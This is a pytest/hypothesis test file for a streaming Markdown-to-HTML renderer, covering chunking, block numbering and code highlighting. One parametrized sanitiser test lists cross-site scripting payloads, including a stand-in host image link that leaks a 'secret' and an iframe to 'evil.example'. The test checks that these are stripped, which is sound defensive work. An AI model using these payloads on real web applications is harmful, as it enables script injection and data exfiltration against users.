from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.markdown import BlockStream, blocks

LINES = st.sampled_from(
    [
        "", "", "word", "*two* words", "**bold", "- item", "  - inner", "1. one", "> quote", "```", "```python",
        "    indented", "# Title", "#not", "---", "===", "a | b", "--|--", "x = 1", "| c |", "[l]: http://a.example",
        "<b>", "![x](http://a.example/p.png)", "\t tab", "*", "-", "~~~", "`code`",
    ]
)  # fmt: skip
TEXTS = st.lists(LINES, max_size=14).map("\n".join)


class Elements(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@given(TEXTS, st.data())
@example("foo\n#", None)
def test_the_pieces_a_text_comes_in_change_nothing(text: str, data: st.DataObject | None) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8))) if data else range(len(text))
    stream, html, start = BlockStream(), [], 0
    for cut in [*cuts, len(text)]:
        html += [block.html for block in stream.push(text[start:cut])]
        start = cut
    html += [block.html for block in stream.finish()]
    assert tuple(html) == blocks(text)


@given(TEXTS)
def test_blocks_are_numbered_without_a_hole(text: str) -> None:
    stream = BlockStream()
    closed = [*stream.push(text), *stream.finish()]
    assert [block.index for block in closed] == list(range(len(closed)))


def test_a_paragraph_closes_with_the_blank_line_after_it() -> None:
    stream = BlockStream()
    assert stream.push("One.\n") == []
    assert [block.html for block in stream.push("\n")] == ["<p>One.</p>\n"]
    assert stream.tail == ""


def test_a_list_stays_open_over_a_blank_line() -> None:
    stream = BlockStream()
    assert stream.push("- a\n\n") == []
    assert stream.push("- b\n") == []


def test_code_is_highlighted() -> None:
    assert 'class="hl-' in "".join(blocks("```python\nx = 1\n```\n"))


def test_code_in_an_unknown_language_is_shown_as_it_is() -> None:
    assert "&lt;b&gt;" in "".join(blocks("```nonesuch\n<b>\n```\n"))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "![leak](https://evil.example/?d=secret)",
        "<svg/onload=alert(1)>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "| a |\n|--|\n| <iframe src=//evil.example> |",
        '[x](https://a.example "onmouseover=alert(1)")',
        '```"><script>alert(1)</script>\nx\n```',
    ],
)
def test_nothing_that_runs_or_calls_home_gets_through(text: str) -> None:
    seen = Elements()
    seen.feed("".join(blocks(text)))
    assert seen.tags <= {"p", "a", "pre", "code", "span", "table", "thead", "tbody", "tr", "th", "td", "br"}
    assert not [name for name, _value in seen.attributes if name.startswith("on")]
    links = [value for name, value in seen.attributes if name == "href"]
    assert all(urlsplit(link).scheme in {"http", "https", "mailto"} for link in links)


def test_links_leave_without_a_referrer() -> None:
    assert 'rel="noopener noreferrer nofollow"' in blocks("[a](https://a.example)")[0]
